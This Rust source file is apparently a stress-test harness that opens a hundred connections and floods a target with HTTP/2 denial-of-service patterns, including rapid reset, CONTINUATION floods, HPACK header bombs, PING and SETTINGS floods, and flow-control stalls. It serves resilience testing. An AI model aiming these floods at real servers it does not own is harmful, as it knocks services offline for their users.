//! A hundred attacking connections, in a process of their own: each sends as fast as it is read,
//! and reconnects a second after it was closed.

use crate::balancer::pin;
use crate::frames::{
    DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, PRIORITY, frame, get, headers,
    kept, request, reset, settings, window_update,
};
use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::os::fd::AsFd;
use std::time::{Duration, Instant};

pub const CONNECTIONS: usize = 100;

/// The behaviour of one attack.
pub struct Attack {
    pub name: &'static str,
    /// The client's settings, and its first bytes.
    first: fn() -> Vec<u8>,
    /// The bytes it then sends repeatedly, given the first unused stream, with the next one. Empty
    /// if it only holds what it has.
    again: fn(u32) -> (Vec<u8>, u32),
    /// True if it reads what it is sent.
    reads: bool,
}

fn odd(from: u32, count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(move |nth| from + nth * 2)
}

fn hangs() -> Vec<u8> {
    odd(1, 100).flat_map(|stream| get(stream, "/hang")).collect()
}

fn larges() -> Vec<u8> {
    odd(1, 20).flat_map(|stream| get(stream, "/large")).collect()
}

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "nothing but connections",
        first: Vec::new,
        again: |id| (vec![], id),
        reads: true,
    },
    Attack {
        name: "PING",
        first: Vec::new,
        again: |id| (frame(PING, 0, 0, &[0; 8]).repeat(1_000), id),
        reads: true,
    },
    Attack {
        name: "PING, nothing read",
        first: Vec::new,
        again: |id| (frame(PING, 0, 0, &[0; 8]).repeat(1_000), id),
        reads: false,
    },
    Attack {
        name: "SETTINGS",
        first: Vec::new,
        again: |id| (settings(&[]).repeat(1_000), id),
        reads: true,
    },
    Attack {
        name: "SETTINGS that change 100 windows",
        first: hangs,
        again: |id| {
            let both = [(INITIAL_WINDOW_SIZE, 0), (INITIAL_WINDOW_SIZE, 1)];
            (both.map(|pair| settings(&[pair])).concat().repeat(500), id)
        },
        reads: true,
    },
    Attack {
        name: "PRIORITY",
        first: Vec::new,
        again: |id| (frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0]).repeat(1_000), id),
        reads: true,
    },
    Attack {
        name: "WINDOW_UPDATE",
        first: hangs,
        again: |id| (odd(1, 100).flat_map(|stream| window_update(stream, 1)).collect(), id),
        reads: true,
    },
    Attack {
        name: "unknown frames",
        first: Vec::new,
        again: |id| (frame(0xee, 0, 0, &[]).repeat(1_000), id),
        reads: true,
    },
    Attack {
        name: "empty HEADERS",
        first: Vec::new,
        again: |id| (odd(id, 100).flat_map(|id| headers(id, END_STREAM, &[])).collect(), id + 200),
        reads: true,
    },
    Attack {
        name: "empty HEADERS, back at once",
        first: Vec::new,
        again: |id| (odd(id, 100).flat_map(|id| headers(id, END_STREAM, &[])).collect(), id + 200),
        reads: true,
    },
    Attack {
        name: "rapid reset in one breath",
        first: Vec::new,
        again: |id| {
            (odd(id, 15).flat_map(|id| [get(id, "/hang"), reset(id)].concat()).collect(), id + 30)
        },
        reads: true,
    },
    Attack {
        name: "rapid reset, five at a time",
        first: Vec::new,
        again: |id| {
            let ends = odd(id, 5).filter(|id| *id > 10).flat_map(|id| reset(id - 10));
            (ends.chain(odd(id, 5).flat_map(|id| get(id, "/hang"))).collect(), id + 10)
        },
        reads: true,
    },
    Attack {
        name: "header bombs, refused",
        first: || {
            headers(
                1,
                END_STREAM,
                &[request("GET", "/hang", &[]), kept("x-a", &"x".repeat(3_900))].concat(),
            )
        },
        again: |id| {
            let bomb = [request("GET", "/hang", &[]), vec![0xbe; 15]].concat();
            (odd(id, 100).flat_map(|id| headers(id, END_STREAM, &bomb)).collect(), id + 200)
        },
        reads: true,
    },
    Attack {
        name: "references that unfold past the limit",
        first: || {
            headers(
                1,
                END_STREAM,
                &[request("GET", "/hang", &[]), kept("x-a", &"x".repeat(3_900))].concat(),
            )
        },
        again: |id| {
            let bomb = [request("GET", "/hang", &[]), vec![0xbe; 16_000]].concat();
            (headers(id, END_STREAM, &bomb), id + 2)
        },
        reads: true,
    },
    Attack {
        name: "CONTINUATION",
        first: || frame(HEADERS, 0, 1, &request("GET", "/hang", &[])),
        again: |id| (frame(9, 0, 1, &kept("x-a", "1")).repeat(100), id),
        reads: true,
    },
    Attack {
        name: "small DATA",
        first: || headers(1, 0, &request("POST", "/hang", &[])),
        again: |id| (frame(DATA, 0, 1, b"x").repeat(1_000), id),
        reads: true,
    },
    Attack {
        name: "windows shut",
        first: || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), larges()].concat(),
        again: |id| (vec![], id),
        reads: true,
    },
    Attack {
        name: "windows that open by a byte",
        first: || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), larges()].concat(),
        again: |id| (odd(1, 20).flat_map(|stream| window_update(stream, 1)).collect(), id),
        reads: true,
    },
    Attack {
        name: "windows wide, nothing read",
        first: || {
            let wide = settings(&[(INITIAL_WINDOW_SIZE, 1 << 30)]);
            [wide, window_update(0, 1 << 30), larges()].concat()
        },
        again: |id| (vec![], id),
        reads: false,
    },
];

struct Attacker {
    socket: TcpStream,
    unsent: Vec<u8>,
    stream: u32,
    /// Closed, and not reconnected yet.
    is_closed: bool,
    begun: Instant,
}

/// Delay until a closed connection reconnects: the attack has a hundred connections, not as many as
/// can be opened in a row, which limits of connections are for.
const BACK_AFTER: Duration = Duration::from_secs(1);

fn attacker(attack: &Attack, address: SocketAddr) -> Attacker {
    let socket = TcpStream::connect(address).unwrap();
    socket.set_nonblocking(true).unwrap();
    let first = [PREFACE, &settings(&[]), &(attack.first)()].concat();
    Attacker { socket, unsent: first, stream: 201, is_closed: false, begun: Instant::now() }
}

/// Attacks until this process or its parent is ended.
pub fn run(name: &str, address: SocketAddr) {
    pin(1);
    let attack = ATTACKS.iter().find(|attack| attack.name == name).unwrap();
    let parent = nix::unistd::getppid();
    let mut attackers: Vec<Attacker> =
        (0..CONNECTIONS).map(|_| attacker(attack, address)).collect();
    while nix::unistd::getppid() == parent {
        for own in &mut attackers {
            own.is_closed = own.is_closed || own.turn(attack).is_err();
            let back_after =
                if attack.name.ends_with("back at once") { Duration::ZERO } else { BACK_AFTER };
            if own.is_closed && own.begun.elapsed() >= back_after {
                *own = attacker(attack, address);
            }
        }
        let events = |own: &Attacker| {
            let mut flags = PollFlags::empty();
            flags.set(PollFlags::POLLIN, attack.reads);
            flags.set(PollFlags::POLLOUT, !own.unsent.is_empty());
            flags
        };
        let open = attackers.iter().filter(|own| !own.is_closed);
        let mut waiting: Vec<PollFd<'_>> =
            open.map(|own| PollFd::new(own.socket.as_fd(), events(own))).collect();
        let _ = poll(&mut waiting, PollTimeout::from(20_u8));
    }
}

impl Attacker {
    fn turn(&mut self, attack: &Attack) -> std::io::Result<()> {
        let blocks = |error: &std::io::Error| error.kind() == ErrorKind::WouldBlock;
        let mut scratch = [0; 65_536];
        if attack.reads {
            match self.socket.read(&mut scratch) {
                Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
                Err(error) if !blocks(&error) => return Err(error),
                Ok(_) | Err(_) => {}
            }
        }
        if self.unsent.is_empty() {
            (self.unsent, self.stream) = (attack.again)(self.stream);
        }
        if self.unsent.is_empty() {
            return Ok(());
        }
        match self.socket.write(&self.unsent) {
            Ok(count) => drop(self.unsent.drain(..count)),
            Err(error) if blocks(&error) => {}
            Err(error) => return Err(error),
        }
        Ok(())
    }
}
